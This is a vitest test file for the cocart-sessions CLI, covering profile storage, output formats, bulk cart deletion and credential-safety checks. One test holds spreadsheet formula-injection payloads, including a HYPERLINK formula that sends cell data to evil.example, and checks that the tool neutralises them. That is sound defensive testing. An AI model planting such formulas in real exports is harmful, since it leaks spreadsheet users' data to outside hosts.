import { spawn } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { type AddressInfo, connect, createServer, type Socket } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { createClient } from '@cocart-sessions/client';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { deleteCarts } from '../src/sessions/bulk-delete.js';
import { buildCli, CLI } from './helpers/build.js';
import { ADMIN, startTestServer, type TestServer, type TestSession } from './helpers/server.js';

const HOUR = 3600;
const DAY = 24 * HOUR;

// Customers chosen to be awkward in CSV: commas, quotes, non-ASCII letters, a line break.
const SESSIONS: TestSession[] = [
  { key: 'active_1', first: 'Dumont, Sébastien', last: 'Ünlü', email: 'seb@example.fr', expiresIn: 5 * DAY },
  {
    key: 'active_2',
    first: 'Kent "Superman"',
    last: 'Clark',
    email: 'clark@dailyplanet.wb',
    expiresIn: 2 * DAY,
  },
  { key: 'expiring_1', first: '田中', last: '太郎', email: 'tanaka@example.jp', expiresIn: 2 * HOUR },
  { key: 'expiring_2', first: 'Zoë', last: 'Line\nBreak', email: 'zoe@example.com', expiresIn: 5 * HOUR },
  {
    key: 'expired_old',
    first: 'Old',
    last: 'Timer',
    email: 'old@example.com',
    createdIn: -50 * DAY,
    expiresIn: -40 * DAY,
  },
  {
    key: 'expired_recent',
    first: 'Just',
    last: 'Gone',
    email: 'just@example.com',
    createdIn: -8 * DAY,
    expiresIn: -3 * HOUR,
  },
];

let server: TestServer;
const dirs: string[] = [];
const tempDir = (prefix: string) => {
  const dir = mkdtempSync(join(tmpdir(), prefix));
  dirs.push(dir);
  return dir;
};

beforeAll(async () => {
  buildCli();
  server = await startTestServer(SESSIONS);
}, 120_000);
afterAll(async () => {
  await server?.stop();
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
});

interface Run {
  code: number;
  stdout: string;
  stderr: string;
}

/**
 * Runs the binary as a script would (pipes, no terminal), with only the environment given (plus PATH
 * and a private XDG_CONFIG_HOME unless given), and `input` on stdin.
 */
function cli(args: string[], env: Record<string, string> = {}, input = ''): Promise<Run> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [CLI, ...args], {
      env: { PATH: process.env.PATH ?? '', XDG_CONFIG_HOME: tempDir('cocart-xdg-'), ...env },
      timeout: 30_000,
    });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (d: string) => (stdout += d));
    child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d));
    child.on('close', (code) => resolve({ code: code ?? -1, stdout, stderr }));
    child.stdin.end(input);
  });
}

const auth = () => ({
  COCART_URL: server.url,
  COCART_USERNAME: ADMIN.login,
  COCART_PASSWORD: ADMIN.password,
});

async function keysOf(status?: string): Promise<string[]> {
  const r = await cli(['list', '--format', 'json', ...(status ? ['--status', status] : [])], auth());
  expect(r.code, r.stderr).toBe(0);
  return (JSON.parse(r.stdout) as Array<{ cart_key: string }>).map((s) => s.cart_key).sort();
}

describe('profiles', () => {
  it('adds, lists, sets the default, uses it, and removes, in $XDG_CONFIG_HOME with mode 0600', async () => {
    const xdg = tempDir('cocart-profiles-');
    const env = { XDG_CONFIG_HOME: xdg };
    const add = await cli(
      ['profiles', 'add', 'shop', '--url', server.url, '--user', ADMIN.login, '--password-stdin'],
      env,
      `${ADMIN.password}\n`,
    );
    expect(add.code, add.stderr).toBe(0);
    expect(add.stdout).toContain('Saved profile shop');
    const file = join(xdg, 'cocart-sessions', 'profiles.json');
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(statSync(join(xdg, 'cocart-sessions')).mode & 0o777).toBe(0o700);
    expect(JSON.parse(readFileSync(file, 'utf8')).profiles.shop).toEqual({
      url: server.url,
      user: ADMIN.login,
      password: ADMIN.password,
    });

    const second = await cli(
      [
        'profiles',
        'add',
        'staging',
        '--url',
        'http://127.0.0.1:9',
        '--consumer-key',
        'ck_abc',
        '--password-stdin',
        '--default',
      ],
      env,
      'cs_very_secret\n',
    );
    expect(second.code, second.stderr).toBe(0);
    expect(statSync(file).mode & 0o777).toBe(0o600);

    const list = await cli(['profiles', 'list'], env);
    expect(list.code).toBe(0);
    expect(list.stdout).toMatch(/^\s+NAME\s+URL\s+LOGIN$/m);
    expect(list.stdout).toMatch(new RegExp(`^\\s+shop\\s+${server.url}\\s+user admin$`, 'm'));
    expect(list.stdout).toMatch(/^\*\s+staging\s+http:\/\/127\.0\.0\.1:9\s+key ck_abc$/m);
    expect(list.stdout + list.stderr).not.toContain(ADMIN.password);
    expect(list.stdout + list.stderr).not.toContain('cs_very_secret');
    const json = await cli(['profiles', 'list', '--json'], env);
    expect(JSON.parse(json.stdout)).toEqual([
      { name: 'shop', url: server.url, user: 'admin', default: false },
      { name: 'staging', url: 'http://127.0.0.1:9', consumer_key: 'ck_abc', default: true },
    ]);

    const setDefault = await cli(['profiles', 'default', 'shop'], env);
    expect(setDefault.code).toBe(0);
    // With a default profile, no URL and no credentials are needed.
    const listed = await cli(['list', '--format', 'json'], env);
    expect(listed.code, listed.stderr).toBe(0);
    expect(JSON.parse(listed.stdout)).toHaveLength(SESSIONS.length);

    const removed = await cli(['profiles', 'remove', 'shop'], env);
    expect(removed.code).toBe(0);
    expect(removed.stdout).toContain('it was the default');
    const after = await cli(['profiles', 'list', '--json'], env);
    expect(JSON.parse(after.stdout).map((p: { name: string }) => p.name)).toEqual(['staging']);
    // No default any more: the CLI asks for a URL again.
    const noUrl = await cli(['list'], env);
    expect(noUrl.code).toBe(2);
    expect(noUrl.stderr).toContain('No store URL');
  });

  it('lets --profile beat COCART_PROFILE, and flags and environment beat a profile field', async () => {
    const xdg = tempDir('cocart-profiles-');
    const save = (name: string, url: string, password: string, extra: string[] = []) =>
      cli(
        ['profiles', 'add', name, '--url', url, '--user', ADMIN.login, '--password-stdin', ...extra],
        { XDG_CONFIG_HOME: xdg },
        password,
      );
    expect((await save('good', server.url, ADMIN.password)).code).toBe(0);
    expect((await save('wrongpw', server.url, 'not the password', ['--default'])).code).toBe(0);
    expect((await save('down', 'http://127.0.0.1:9', ADMIN.password)).code).toBe(0);
    const env = { XDG_CONFIG_HOME: xdg };

    // The default profile's password is wrong: 3 (authentication).
    expect((await cli(['list'], env)).code).toBe(3);
    // COCART_PROFILE picks another; --profile beats COCART_PROFILE.
    expect((await cli(['list'], { ...env, COCART_PROFILE: 'good' })).code).toBe(0);
    expect((await cli(['list', '--profile', 'wrongpw'], { ...env, COCART_PROFILE: 'good' })).code).toBe(3);
    expect((await cli(['list', '--profile', 'good'], { ...env, COCART_PROFILE: 'wrongpw' })).code).toBe(0);
    // COCART_PASSWORD and --password win over the profile's password.
    expect((await cli(['list'], { ...env, COCART_PASSWORD: ADMIN.password })).code).toBe(0);
    expect((await cli(['list', '--password', ADMIN.password], env)).code).toBe(0);
    // --url and COCART_URL win over the profile's URL (this one points at a closed port: 5).
    expect((await cli(['list', '--profile', 'down'], env)).code).toBe(5);
    expect((await cli(['list', '--profile', 'down', '--url', server.url], env)).code).toBe(0);
    expect((await cli(['list', '--profile', 'down'], { ...env, COCART_URL: server.url })).code).toBe(0);
    // A user from the environment replaces the profile's login and its password.
    const other = await cli(['list', '--profile', 'good'], { ...env, COCART_USERNAME: 'nobody' });
    expect(other.code).toBe(2);
    expect(other.stderr).toContain('No password for nobody');
  });

  it('refuses an unknown profile, a malformed file and a file others can read, with exit 2', async () => {
    const xdg = tempDir('cocart-profiles-');
    const env = { XDG_CONFIG_HOME: xdg };
    expect(
      (
        await cli(
          ['profiles', 'add', 'shop', '--url', server.url, '--user', 'admin', '--password-stdin'],
          env,
          'pw',
        )
      ).code,
    ).toBe(0);

    const unknown = await cli(['list', '--profile', 'nope'], env);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toBe('cocart-sessions: Unknown profile "nope" (saved: shop).\n');
    expect((await cli(['list'], { ...env, COCART_PROFILE: 'nope' })).code).toBe(2);
    expect((await cli(['profiles', 'remove', 'nope'], env)).code).toBe(2);
    expect((await cli(['profiles', 'default', 'nope'], env)).code).toBe(2);

    const file = join(xdg, 'cocart-sessions', 'profiles.json');
    chmodSync(file, 0o644);
    const exposed = await cli(['list', '--profile', 'shop'], env);
    expect(exposed.code).toBe(2);
    expect(exposed.stderr).toBe(
      `cocart-sessions: ${file} holds passwords but other users can read it (mode 0644): run chmod 600 ${file}\n`,
    );
    const warned = await cli(['profiles', 'list'], env);
    expect(warned.code).toBe(0);
    expect(warned.stderr).toContain('warning:');
    expect(warned.stderr).toContain(`chmod 600 ${file}`);

    writeFileSync(file, '{"profiles": {"shop": {"url": "ftp://x"', { mode: 0o600 });
    const broken = await cli(['list', '--profile', 'shop'], env);
    expect(broken.code).toBe(2);
    expect(broken.stderr).toMatch(
      /^cocart-sessions: .*profiles\.json is not valid JSON .*: fix or remove it\.\n$/,
    );
    writeFileSync(file, '{"profiles": {"shop": {"url": "ftp://x", "user": "a"}}}', { mode: 0o600 });
    const invalid = await cli(['list', '--profile', 'shop'], env);
    expect(invalid.code).toBe(2);
    expect(invalid.stderr).toContain('is not a valid profiles file at profiles.shop.url');
    expect(invalid.stderr.split('\n')).toHaveLength(2);

    // Without a terminal and without --password-stdin there is nowhere to ask the password.
    mkdirSync(join(xdg, 'other'), { recursive: true });
    const noTty = await cli(['profiles', 'add', 'x', '--url', server.url, '--user', 'admin'], {
      XDG_CONFIG_HOME: join(xdg, 'other'),
    });
    expect(noTty.code).toBe(2);
    expect(noTty.stderr).toContain('--password-stdin');
  });
});

describe('list --status and --format', () => {
  it('lists each status: active, expiring (within 6 hours) and expired, as the table says', async () => {
    expect(await keysOf('active')).toEqual(['active_1', 'active_2']);
    expect(await keysOf('expiring')).toEqual(['expiring_1', 'expiring_2']);
    expect(await keysOf('expired')).toEqual(['expired_old', 'expired_recent']);
    const table = await cli(['list', '--status', 'expiring'], auth());
    const rows = table.stdout.trimEnd().split('\n').slice(1);
    expect(rows).toHaveLength(2);
    for (const row of rows) expect(row).toMatch(/\sexpiring\s/);
    const bad = await cli(['list', '--status', 'stale'], auth());
    expect(bad.code).toBe(2);
    expect(bad.stderr).toBe('cocart-sessions: --status must be active, expiring or expired, not "stale".\n');
  });

  it('writes CSV that the same CSV library reads back equal to the JSON, field for field', async () => {
    for (const fields of [undefined, 'cart_key,customers_name,customers_email,status']) {
      const extra = fields ? ['--fields', fields] : [];
      const json = await cli(['list', '--format', 'json', ...extra], auth());
      const csv = await cli(['list', '--format', 'csv', ...extra], auth());
      expect(csv.code, csv.stderr).toBe(0);
      const expected = JSON.parse(json.stdout) as Array<Record<string, string>>;
      const records = parse(csv.stdout, { columns: true }) as Array<Record<string, string>>;
      expect(records).toEqual(expected);
      expect(csv.stdout.split('\r\n')[0]).toBe(
        fields ?? 'cart_id,cart_key,customers_name,customers_email,cart_created,cart_expiry,cart_source,link',
      );
      expect(expected.map((r) => r.customers_name)).toContain('Dumont, Sébastien Ünlü');
    }
    // RFC 4180 quoting of a comma, a quote and a line break.
    const csv = (await cli(['list', '--format', 'csv', '--fields', 'cart_key,customers_name'], auth()))
      .stdout;
    expect(csv).toContain('active_1,"Dumont, Sébastien Ünlü"\r\n');
    expect(csv).toContain('active_2,"Kent ""Superman"" Clark"\r\n');
    expect(csv).toContain('expiring_2,"Zoë Line\nBreak"\r\n');
    expect(csv).toContain('expiring_1,田中 太郎\r\n');
  });

  it('writes NDJSON, --json as --format json, and refuses unknown formats and fields', async () => {
    const nd = await cli(
      ['list', '--format', 'ndjson', '--fields', 'cart_key,status', '--status', 'expired'],
      auth(),
    );
    expect(nd.stdout).toBe(
      '{"cart_key":"expired_old","status":"expired"}\n{"cart_key":"expired_recent","status":"expired"}\n',
    );
    const a = await cli(['list', '--json'], auth());
    const b = await cli(['list', '--format', 'json'], auth());
    expect(a.stdout).toBe(b.stdout);
    expect((await cli(['list', '--format', 'xml'], auth())).code).toBe(2);
    expect((await cli(['list', '--json', '--format', 'csv'], auth())).code).toBe(2);
    const field = await cli(['list', '--fields', 'cart_key,password'], auth());
    expect(field.code).toBe(2);
    expect(field.stderr).toContain('unknown field "password"');
  });
});

describe('delete from scripts', () => {
  it('--expired --dry-run deletes nothing and names the carts that --expired --yes then deletes', async () => {
    const s = await startTestServer(SESSIONS);
    try {
      const env = { COCART_URL: s.url, COCART_USERNAME: ADMIN.login, COCART_PASSWORD: ADMIN.password };
      const olderDry = await cli(['delete', '--expired', '--older-than', '30d', '--dry-run', '--json'], env);
      expect(JSON.parse(olderDry.stdout).results.map((r: { cart_key: string }) => r.cart_key)).toEqual([
        'expired_old',
      ]);

      const dry = await cli(['delete', '--expired', '--dry-run'], env);
      expect(dry.code).toBe(0);
      expect(dry.stdout).toBe(
        'Would delete cart expired_old.\nWould delete cart expired_recent.\n2 carts would be deleted (dry run: nothing was).\n',
      );
      const all = await cli(['list', '--format', 'json', '--fields', 'cart_key'], env);
      expect(JSON.parse(all.stdout)).toHaveLength(SESSIONS.length);

      const done = await cli(['delete', '--expired', '--yes'], env);
      expect(done.code).toBe(0);
      expect(done.stdout).toBe(
        'Deleted cart expired_old.\nDeleted cart expired_recent.\n2 deleted, 0 already gone, 0 failed.\n',
      );
      const left = await cli(['list', '--format', 'json', '--fields', 'cart_key'], env);
      expect(
        JSON.parse(left.stdout)
          .map((r: { cart_key: string }) => r.cart_key)
          .sort(),
      ).toEqual(['active_1', 'active_2', 'expiring_1', 'expiring_2']);
    } finally {
      await s.stop();
    }
  });

  it('deletes several keys, 4 at a time: one already gone and one failing do not stop the rest', async () => {
    const many = Array.from({ length: 10 }, (_, i) => ({ key: `bulk_${i}` }));
    const s = await startTestServer([...many, { key: 'locked_cart' }]);
    try {
      // A real failure of the real server: its SQLite store refuses to delete this one row (500).
      const db = new DatabaseSync(join(s.dir, 'sessions.sqlite'));
      db.exec(`CREATE TRIGGER keep_locked BEFORE DELETE ON cocart_carts WHEN OLD.cart_key = 'locked_cart'
               BEGIN SELECT RAISE(ABORT, 'locked for the test'); END`);
      db.close();
      const env = { COCART_URL: s.url, COCART_USERNAME: ADMIN.login, COCART_PASSWORD: ADMIN.password };
      const keys = ['bulk_0', 'bulk_1', 'gone_already', 'locked_cart', ...many.slice(2).map((m) => m.key)];
      const r = await cli(['delete', ...keys, '--yes', '--json'], env);
      expect(r.code).toBe(1);
      const report = JSON.parse(r.stdout);
      expect(report).toMatchObject({ dry_run: false, deleted: 10, already_gone: 1, failed: 1 });
      expect(report.results.map((x: { cart_key: string }) => x.cart_key)).toEqual(keys);
      expect(report.results[2]).toEqual({ cart_key: 'gone_already', outcome: 'already_gone' });
      expect(report.results[3]).toMatchObject({ cart_key: 'locked_cart', outcome: 'failed' });
      expect(report.results[3].error).toContain('500 cocart_unknown_server_error');
      const left = await cli(['list', '--format', 'json', '--fields', 'cart_key'], env);
      expect(JSON.parse(left.stdout)).toEqual([{ cart_key: 'locked_cart' }]);

      const text = await cli(['delete', 'locked_cart', 'bulk_0', '--yes'], env);
      expect(text.code).toBe(1);
      expect(text.stdout).toMatch(
        /^Could not delete cart locked_cart: .*500 cocart_unknown_server_error.*\nCart bulk_0 was already gone\.\n0 deleted, 1 already gone, 1 failed\.\n$/,
      );
    } finally {
      await s.stop();
    }
  });

  it('never has more than 4 deletes in flight, and reports each cart in order', async () => {
    const keys = Array.from({ length: 12 }, (_, i) => `flight_${i}`);
    const s = await startTestServer(keys.map((key) => ({ key })));
    try {
      const client = createClient({ url: s.url, auth: { username: ADMIN.login, password: ADMIN.password } });
      let inFlight = 0;
      let most = 0;
      // The real client's delete, counted on the way in and out.
      const counted = {
        async delete(key: string) {
          most = Math.max(most, ++inFlight);
          try {
            return await client.sessions.delete(key);
          } finally {
            inFlight--;
          }
        },
      };
      const heard: string[] = [];
      const results = await deleteCarts([...keys, 'flight_0'], counted, {
        onResult: (r) => heard.push(r.key),
      });
      expect(most).toBe(4);
      expect(results.map((r) => r.key)).toEqual([...keys, 'flight_0']);
      expect(results.filter((r) => r.outcome === 'deleted')).toHaveLength(12);
      expect(heard.sort()).toEqual([...keys, 'flight_0'].sort());
      expect(await client.sessions.list()).toEqual([]);
    } finally {
      await s.stop();
    }
  });

  it('reads keys from stdin with -, and deletes nothing when a line is blank or not a key', async () => {
    const s = await startTestServer([{ key: 'in_1' }, { key: 'in_2' }, { key: 'in_3' }]);
    try {
      const env = { COCART_URL: s.url, COCART_USERNAME: ADMIN.login, COCART_PASSWORD: ADMIN.password };
      const blank = await cli(['delete', '-', '--yes'], env, 'in_1\n\nin_2\n');
      expect(blank.code).toBe(2);
      expect(blank.stderr).toBe('cocart-sessions: delete -: line 2 of stdin is blank.\n');
      const invalid = await cli(['delete', '-', '--yes'], env, 'in_1\nin-2!\n');
      expect(invalid.code).toBe(2);
      expect(invalid.stderr).toBe(
        'cocart-sessions: delete -: line 2 of stdin, "in-2!", is not a cart key (1 to 42 letters, digits or underscores).\n',
      );
      expect((await cli(['delete', '-', '--yes'], env, '')).code).toBe(2);
      const still = await cli(['list', '--format', 'json', '--fields', 'cart_key'], env);
      expect(JSON.parse(still.stdout)).toHaveLength(3);

      const dry = await cli(['delete', '-', '--dry-run'], env, 'in_1\r\nin_2\r\n');
      expect(dry.stdout).toBe(
        'Would delete cart in_1.\nWould delete cart in_2.\n2 carts would be deleted (dry run: nothing was).\n',
      );
      const done = await cli(['delete', '-', '--yes'], env, 'in_1\nin_2\n');
      expect(done.code).toBe(0);
      expect(done.stdout).toBe(
        'Deleted cart in_1.\nDeleted cart in_2.\n2 deleted, 0 already gone, 0 failed.\n',
      );
      const left = await cli(['list', '--format', 'json', '--fields', 'cart_key'], env);
      expect(JSON.parse(left.stdout)).toEqual([{ cart_key: 'in_3' }]);
    } finally {
      await s.stop();
    }
  });

  it('refuses bad input with one line and exit 2: 30x, --expired with keys, no --yes, --read-only', async () => {
    const cases: Array<[string[], string]> = [
      [
        ['delete', '--expired', '--older-than', '30x', '--yes'],
        '--older-than needs a duration like 30d, 12h, 45m, 2w or 90s, not "30x".',
      ],
      [
        ['delete', 'active_1', '--expired', '--yes'],
        'delete --expired takes no cart keys: give one or the other.',
      ],
      [['delete', 'active_1', '--older-than', '3d', '--yes'], '--older-than goes with delete --expired.'],
      [['delete', '--yes'], 'delete needs cart keys, - (keys on stdin) or --expired.'],
      [['delete', '-', 'active_1', '--yes'], 'delete - reads every key from stdin: give no other key.'],
      [['delete', '--expired'], 'Refusing to delete anything without --yes (or see --dry-run).'],
      [
        ['delete', 'active_1', 'active_2'],
        'Refusing to delete active_1 active_2 without --yes (or see --dry-run).',
      ],
      [['delete', '--expired', '--yes', '--read-only'], '--read-only: deleting is disabled.'],
      [
        ['delete', 'active_1', 'bad key!', '--yes'],
        '"bad key!" is not a cart key (1 to 42 letters, digits or underscores).',
      ],
    ];
    for (const [args, message] of cases) {
      const r = await cli(args, auth());
      expect(r.code, args.join(' ')).toBe(2);
      // The whole of stderr: one line, not the line followed by the usage text.
      expect(r.stderr).toBe(`cocart-sessions: ${message}\n`);
    }
    expect(await keysOf()).toHaveLength(SESSIONS.length);
  });
});

describe('CSV and formulas', () => {
  it('neutralises cells a spreadsheet would run, in CSV only: JSON and ndjson keep them exactly', async () => {
    const evil = '=HYPERLINK("https://evil.example/?"&A2,"x")';
    const s = await startTestServer([
      { key: 'evil_1', first: evil, last: '', email: '@SUM(1+1)@x.example' },
      { key: 'evil_2', first: '+1', last: 'Plus', email: 'ok@x.example' },
    ]);
    try {
      const env = { COCART_URL: s.url, COCART_USERNAME: ADMIN.login, COCART_PASSWORD: ADMIN.password };
      const fields = ['--fields', 'cart_key,customers_name,customers_email'];
      const csv = await cli(['list', '--format', 'csv', ...fields], env);
      expect(csv.code, csv.stderr).toBe(0);
      expect(csv.stdout).toBe(
        `cart_key,customers_name,customers_email\r\nevil_1,"'=HYPERLINK(""https://evil.example/?""&A2,""x"")",'@SUM(1+1)@x.example\r\nevil_2,'+1 Plus,ok@x.example\r\n`,
      );
      const exact = [
        { cart_key: 'evil_1', customers_name: evil, customers_email: '@SUM(1+1)@x.example' },
        { cart_key: 'evil_2', customers_name: '+1 Plus', customers_email: 'ok@x.example' },
      ];
      expect(JSON.parse((await cli(['list', '--format', 'json', ...fields], env)).stdout)).toEqual(exact);
      const nd = await cli(['list', '--format', 'ndjson', ...fields], env);
      expect(
        nd.stdout
          .trimEnd()
          .split('\n')
          .map((l) => JSON.parse(l)),
      ).toEqual(exact);
    } finally {
      await s.stop();
    }
  });
});

describe('-p/--password', () => {
  it('still works, with a one-line warning on stderr that says what to use instead', async () => {
    const r = await cli(['list', '--format', 'json', '-p', ADMIN.password], {
      COCART_URL: server.url,
      COCART_USERNAME: ADMIN.login,
    });
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout)).toHaveLength(SESSIONS.length);
    expect(r.stderr).toBe(
      'cocart-sessions: warning: --password shows the password to every local user (ps, /proc) and keeps it in shell history; leave it out to be asked for it without echo, or use COCART_PASSWORD or a saved profile (profiles add).\n',
    );
    const add = await cli([
      'profiles',
      'add',
      'p',
      '--url',
      server.url,
      '--user',
      'admin',
      '--password',
      'x',
    ]);
    expect(add.code, add.stderr).toBe(0);
    expect(add.stderr).toMatch(/^cocart-sessions: warning: .*--password-stdin.*\n$/);
    expect((await cli(['list'], auth())).stderr).toBe('');
  });
});

describe('store URLs that hold a password', () => {
  const secret = 's3cr3t-in-url';
  const withLogin = () => server.url.replace('http://', `http://${ADMIN.login}:${secret}@`);

  it('are refused before anything is sent or saved, and the password is printed nowhere', async () => {
    const xdg = tempDir('cocart-profiles-');
    const runs = [
      await cli(['list'], { COCART_URL: withLogin() }),
      await cli(['list', '--json', '--url', withLogin(), '--user', ADMIN.login], {
        COCART_PASSWORD: ADMIN.password,
      }),
      await cli(
        ['profiles', 'add', 'shop', '--url', withLogin(), '--user', ADMIN.login, '--password-stdin'],
        { XDG_CONFIG_HOME: xdg },
        ADMIN.password,
      ),
    ];
    for (const r of runs) {
      expect(r.code).toBe(2);
      expect(r.stderr).toBe(
        `cocart-sessions: The store URL ${server.url}/ must not hold a login: give it with --user (the password is asked for, or taken from COCART_PASSWORD or a profile) or --consumer-key.\n`,
      );
      expect(r.stdout).toBe('');
    }
    expect(existsSync(join(xdg, 'cocart-sessions', 'profiles.json'))).toBe(false);
  });

  it('one saved in a profile is never shown by profiles list (table or --json) nor used', async () => {
    const xdg = tempDir('cocart-profiles-');
    mkdirSync(join(xdg, 'cocart-sessions'), { mode: 0o700 });
    const old = { url: withLogin(), user: ADMIN.login, password: ADMIN.password };
    writeFileSync(
      join(xdg, 'cocart-sessions', 'profiles.json'),
      JSON.stringify({ default: 'old', profiles: { old } }),
      { mode: 0o600 },
    );
    const env = { XDG_CONFIG_HOME: xdg };
    const table = await cli(['profiles', 'list'], env);
    expect(table.stdout).toMatch(new RegExp(`^\\*\\s+old\\s+${server.url}/\\s+user admin$`, 'm'));
    const json = await cli(['profiles', 'list', '--json'], env);
    expect(JSON.parse(json.stdout)).toEqual([
      { name: 'old', url: `${server.url}/`, user: 'admin', default: true },
    ]);
    const used = await cli(['list'], env);
    expect(used.code).toBe(2);
    for (const r of [table, json, used]) expect(r.stdout + r.stderr).not.toContain(secret);
  });
});

/** This machine's first IPv4 address that is not loopback: a store there looks remote to the CLI. */
const REMOTE_ADDRESS = Object.values(networkInterfaces())
  .flat()
  .find((a) => a?.family === 'IPv4' && !a.internal)?.address;
if (!REMOTE_ADDRESS) console.warn('No IPv4 address besides loopback: skipping the plain-HTTP opt-in tests');

/** A TCP forwarder on REMOTE_ADDRESS to the test server, counting the connections it was asked for. */
async function remoteLooking(): Promise<{ url: string; connections: () => number; close(): Promise<void> }> {
  const target = new URL(server.url);
  const sockets = new Set<Socket>();
  let connections = 0;
  const forwarder = createServer((socket) => {
    connections++;
    const upstream = connect(Number(target.port), target.hostname);
    for (const [a, b] of [
      [socket, upstream],
      [upstream, socket],
    ] as const) {
      sockets.add(a);
      a.pipe(b);
      a.on('error', () => b.destroy());
    }
  });
  await new Promise<void>((resolve) => forwarder.listen(0, REMOTE_ADDRESS, resolve));
  const { port } = forwarder.address() as AddressInfo;
  return {
    url: `http://${REMOTE_ADDRESS}:${port}`,
    connections: () => connections,
    close: () =>
      new Promise<void>((resolve) => {
        for (const socket of sockets) socket.destroy();
        forwarder.close(() => resolve());
      }),
  };
}

describe.runIf(REMOTE_ADDRESS)('credentials over plain HTTP to a host other than loopback', () => {
  const login = { COCART_USERNAME: ADMIN.login, COCART_PASSWORD: ADMIN.password };

  it('go only with --allow-insecure-http; without it nothing is sent, and no login needs no opt-in', async () => {
    const remote = await remoteLooking();
    try {
      const host = new URL(remote.url).host;
      for (const env of [
        { ...login, COCART_URL: remote.url } as Record<string, string>,
        { COCART_URL: remote.url, COCART_CONSUMER_KEY: 'ck_x', COCART_CONSUMER_SECRET: 'cs_x' },
      ]) {
        const refused = await cli(['list'], env);
        expect(refused.code).toBe(2);
        expect(refused.stderr).toBe(
          `cocart-sessions: Refusing to send credentials over plain HTTP to ${host}: anyone on the network path could read them. Use https://, or pass --allow-insecure-http if that network is trusted (profiles add --allow-insecure-http saves the choice).\n`,
        );
      }
      expect(remote.connections()).toBe(0);
      const allowed = await cli(['list', '--format', 'json', '--allow-insecure-http'], {
        ...login,
        COCART_URL: remote.url,
      });
      expect(allowed.code, allowed.stderr).toBe(0);
      expect(JSON.parse(allowed.stdout)).toHaveLength(SESSIONS.length);
      // No credentials, nothing to protect: the store is asked, and answers 401 (exit 3).
      expect((await cli(['list'], { COCART_URL: remote.url })).code).toBe(3);
    } finally {
      await remote.close();
    }
  });

  it('profiles add refuses such a store without the flag, and saves the opt-in for that URL with it', async () => {
    const remote = await remoteLooking();
    try {
      const xdg = tempDir('cocart-profiles-');
      const env = { XDG_CONFIG_HOME: xdg };
      const file = join(xdg, 'cocart-sessions', 'profiles.json');
      const save = (extra: string[]) =>
        cli(
          [
            'profiles',
            'add',
            'lan',
            '--url',
            remote.url,
            '--user',
            ADMIN.login,
            '--password-stdin',
            '--default',
            ...extra,
          ],
          env,
          ADMIN.password,
        );
      const refused = await save([]);
      expect(refused.code).toBe(2);
      expect(refused.stderr).toContain('pass --allow-insecure-http');
      expect(existsSync(file)).toBe(false);
      expect(remote.connections()).toBe(0);

      const saved = await save(['--allow-insecure-http']);
      expect(saved.code, saved.stderr).toBe(0);
      expect(JSON.parse(readFileSync(file, 'utf8')).profiles.lan).toEqual({
        url: remote.url,
        user: ADMIN.login,
        password: ADMIN.password,
        allow_insecure_http: true,
      });
      const listed = await cli(['list', '--format', 'json'], env);
      expect(listed.code, listed.stderr).toBe(0);
      expect(JSON.parse(listed.stdout)).toHaveLength(SESSIONS.length);
      // The opt-in belongs to the profile's URL: another one given by flag needs its own.
      const other = await cli(['list', '--profile', 'lan', '--url', `http://${REMOTE_ADDRESS}:9`], env);
      expect(other.code).toBe(2);
      expect(other.stderr).toContain(`over plain HTTP to ${REMOTE_ADDRESS}:9:`);
    } finally {
      await remote.close();
    }
  });
});
